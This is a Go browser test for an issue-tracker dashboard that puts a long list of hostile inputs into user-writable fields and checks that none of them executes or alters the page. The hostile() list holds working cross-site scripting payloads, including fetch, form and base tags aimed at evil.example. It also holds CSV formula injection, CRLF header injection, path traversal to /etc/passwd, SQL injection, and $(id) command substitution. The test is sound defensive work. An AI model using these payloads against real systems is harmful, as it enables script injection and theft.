package web

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/git-crosslink/git-crosslink/answer"
	"github.com/git-crosslink/git-crosslink/dashboard/dashtest"
	"github.com/git-crosslink/git-crosslink/event"
	"github.com/git-crosslink/git-crosslink/tracker"
)

// hostile are texts that run as a script, load something or change the page unless they are
// escaped correctly for their context.
func hostile() (all []string) {
	for _, script := range []string{"alert(1)", "confirm(1)", "fetch('https://evil.example/')"} {
		all = append(all, "<script>"+script+"</script>", "<img src=x onerror="+script+">", "<svg onload="+script+">", `"><script>`+script+"</script>", `' onmouseover='`+script,
			`" autofocus onfocus="`+script, "javascript:"+script, "</title><script>"+script+"</script>", "</textarea><script>"+script+"</script>", "<details open ontoggle="+script+">",
			"<iframe srcdoc='<script>"+script+"</script>'>", "<math><mtext><script>"+script+"</script>", "<a href=javascript:"+script+">x</a>", "<style>@import 'https://evil.example/'</style>",
			"<base href='https://evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:"+script+"'>", "<form action='https://evil.example/'><button>Log in</button>",
			"<input autofocus onfocus="+script+">", "<video><source onerror="+script+">", "<body onload="+script+">", "{{"+script+"}}", "${"+script+"}", "<!--><script>"+script+"</script>-->",
			"<svg><animate onbegin="+script+" attributeName=x>", "<object data='javascript:"+script+"'>", "<link rel=stylesheet href='https://evil.example/'>", "data:text/html,<script>"+script+"</script>",
			"<noscript><p title='</noscript><script>"+script+"</script>'>", "\u202e<script>"+script+"</script>", "<scr\x00ipt>"+script+"</script>", "<marquee onstart="+script+">", "<x onclick="+script+" style=position:fixed;inset:0>x",
			"<svg><script>"+script+"</script></svg>", "<svg><style><img src=x onerror="+script+">", "<svg><foreignObject><iframe onload="+script+">", "<svg><use href='data:image/svg+xml,<svg id=x onload="+script+">#x'/>", "<svg><set onbegin="+script+" attributeName=href>",
			"<svg><a xlink:href='javascript:"+script+"'><text y=20>x</text></a>", "<math><maction actiontype=statusline xlink:href='javascript:"+script+"'>x", "<math><annotation-xml encoding=text/html><script>"+script+"</script>",
			"<form><button formaction='javascript:"+script+"'>x</button></form>", "<button popovertarget=x>x</button><input id=x popover onbeforetoggle="+script+">", "<input type=image src=x onerror="+script+">", "<select autofocus onfocus="+script+">", "<textarea autofocus onfocus="+script+">",
			"<div contenteditable autofocus onfocus="+script+">", "<audio src=x onerror="+script+">", "<embed src='javascript:"+script+"'>", "<iframe src='javascript:"+script+"'>", "<frameset onload="+script+">", "<table background='javascript:"+script+"'>", "<template shadowrootmode=open><script>"+script+"</script></template>",
			"<portal src='javascript:"+script+"'>", "<dialog open oncancel="+script+">", "<img srcset='x 1x' onerror="+script+">", "<picture><source srcset=x><img onerror="+script+" src=x></picture>", "<a href='java\tscript:"+script+"'>x</a>", "<a href='&#106;avascript:"+script+"'>x</a>",
			"[x](javascript:"+script+")", "![x](x\" onerror=\""+script+")", "[x]: javascript:"+script+"\n[x]", "<javascript:"+script+">", "`<img src=x onerror="+script+">`", "</script><script>"+script+"</script>", "<![CDATA[<script>"+script+"</script>]]>", "<?xml version='1.0'?><script>"+script+"</script>",
			"\u003cscript\u003e"+script+"\u003c/script\u003e", "<scr<script>ipt>"+script+"</scr</script>ipt>")
	}
	return append(all, "\u202egnp.exe", "a\u200bb", "=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "\r\nSet-Cookie: a=b", "%0d%0aX: y", "../../etc/passwd", strings.Repeat("A", 400), "\u2066left\u2069", "\ufeff", "\t=1+1", "-1+1", "'; DROP TABLE alerts; --", "$(id)", "`id`", "#1 #2 #99999", "@everyone", "https://evil.example/#\u202e", strings.Repeat("\u0301", 60))
}

// TestHostileTexts puts texts that attack a page into every field that others can write, and
// opens every page: none of them runs, loads anything or is shown as part of the page.
func TestHostileTexts(t *testing.T) {
	w := dashtest.New(t)
	a := w.Clone("a")
	texts, put := hostile(), 0
	now := event.TimeOf(time.Now())
	name := func(text string) string { // what a name may hold, of a text
		text = strings.Map(func(c rune) rune {
			if c < ' ' || c == 0x7f {
				return -1
			}
			return c
		}, text)
		return text[:min(len(text), 60)]
	}
	w.Emit(a, func(tracker.Projection) (all []event.Body) {
		add := func(b event.Body) bool {
			if event.Check(b) != nil {
				return false
			}
			all, put = append(all, b), put+1
			return true
		}
		for k, text := range texts {
			u := event.UUID{9, byte(k), byte(k >> 8), 6: 0x40, 8: 0x80}
			id := func(n byte) event.UUID { return event.UUID{9, byte(k), byte(k >> 8), n, 6: 0x40, 8: 0x80} }
			if !add(&event.IssueCreated{UUID: u, Title: name(text), Description: text, Priority: event.High, Labels: []string{name(text)}, CreatedBy: name(text), DueAt: now - 1}) {
				continue
			}
			add(&event.CommentAdded{Issue: u, Comment: id(1), Author: name(text), Content: text, CreatedAt: now, Kind: name(text)})
			add(&event.AssigneeAdded{Issue: u, Assignee: name(text)})
			add(&event.MilestoneCreated{UUID: id(2), Name: name(text), Description: text, CreatedAt: now})
			add(&event.MilestoneAssigned{Issue: u, Milestone: id(2)})
			add(&event.LinkAdded{Issue: u, Kind: "url", Ref: name(text)})
			add(&event.LockClaimed{Issue: u, Branch: name(text)})
			if k > 0 {
				add(&event.DependencyAdded{Blocked: u, Blocker: event.UUID{9, byte(k - 1), byte((k - 1) >> 8), 6: 0x40, 8: 0x80}})
			}
		}
		return all
	})
	t.Logf("%d texts, in %d events", len(texts), put)
	if len(texts) < 200 {
		t.Errorf("%d texts, want 200", len(texts))
	}
	if put < 5*len(texts) {
		t.Errorf("of %d texts only %d events could be written", len(texts), put)
	}
	s := serve(t, w, nil, a)
	b := s.browse()
	var dialogs []string
	s.Check(chromedp.Listen(b.ctx, func(ev any) {
		if e, ok := ev.(*page.EventJavascriptDialogOpening); ok {
			b.mu.Lock()
			dialogs = append(dialogs, e.Message)
			b.mu.Unlock()
		}
	}))
	pages := pagesOf()
	for k := 1; k <= len(texts); k += 7 {
		pages = append(pages, [2]string{"issue", fmt.Sprintf("/p/o/a/i/%d", k)})
	}
	for _, group := range issueGroups {
		pages = append(pages, [2]string{"board by " + group, "/p/o/a/issues?view=board&group=" + group})
	}
	for _, p := range pages {
		b.open(p[1])
		b.until(`document.readyState === "complete"`)
		if odd := js[string](b, `[...document.querySelectorAll('#main script, #main iframe, #main object, #main img, #main base, #main meta, #main link, #main style, #main video, #main marquee, #main math, #main [style]')].concat(
			[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on') || /^\s*(javascript|data):/i.test(a.value) && ['href', 'src', 'action', 'formaction'].includes(a.name)))).map(e => e.outerHTML.slice(0, 120)).join('\n')`); odd != "" {
			t.Errorf("%s has what nobody put there:\n%s", p[1], odd)
		}
		// A field in which a text is edited holds it as it is.
		if js[bool](b, `(() => { const all = document.body.cloneNode(true); all.querySelectorAll("textarea").forEach(t => t.remove()); return all.textContent.includes("\u202e") })()`) {
			t.Errorf("%s has a character that turns the text around", p[1])
		}
	}
	b.quiet()
	if len(dialogs) > 0 {
		t.Errorf("a script of a text ran: %v", dialogs)
	}
	s.login()
	for _, p := range pages {
		path, query, _ := strings.Cut(p[1], "?")
		asJSON := s.do("GET", path+".json?"+query, nil)
		if asJSON.status != 200 || asJSON.header.Get("Content-Type") != "application/json; charset=utf-8" || !json.Valid([]byte(asJSON.body)) || strings.ContainsAny(asJSON.body, "<>&\u2028\u2029") {
			t.Errorf("%s.json: %d %s, with what a page could take for its own", path, asJSON.status, asJSON.header)
		}
	}
	for k, text := range texts { // a program gets each as it was written
		if u := (event.UUID{9, byte(k), byte(k >> 8), 6: 0x40, 8: 0x80}); event.Check(&event.IssueCreated{UUID: u, Title: name(text), Description: text, Priority: event.High, Labels: []string{name(text)}, CreatedBy: name(text), DueAt: now - 1}) == nil {
			got := data[struct{ Issue answer.Detail }](s, "/p/o/a/i/"+u.String()+".json").Issue
			if got.Title != name(text) || got.Description != text {
				t.Errorf("%q is %q and %q as JSON", text, got.Title, got.Description)
			}
		}
	}
	for _, path := range []string{"/alerts?format=csv", "/audit?format=csv"} {
		for _, line := range strings.Split(s.get(path), "\n") {
			for _, cell := range strings.Split(line, ",") {
				if c := strings.Trim(cell, `"`); c != "" && strings.ContainsRune("=+@", rune(c[0])) {
					t.Errorf("%s: a cell is a formula: %s", path, cell)
				}
			}
		}
	}
}
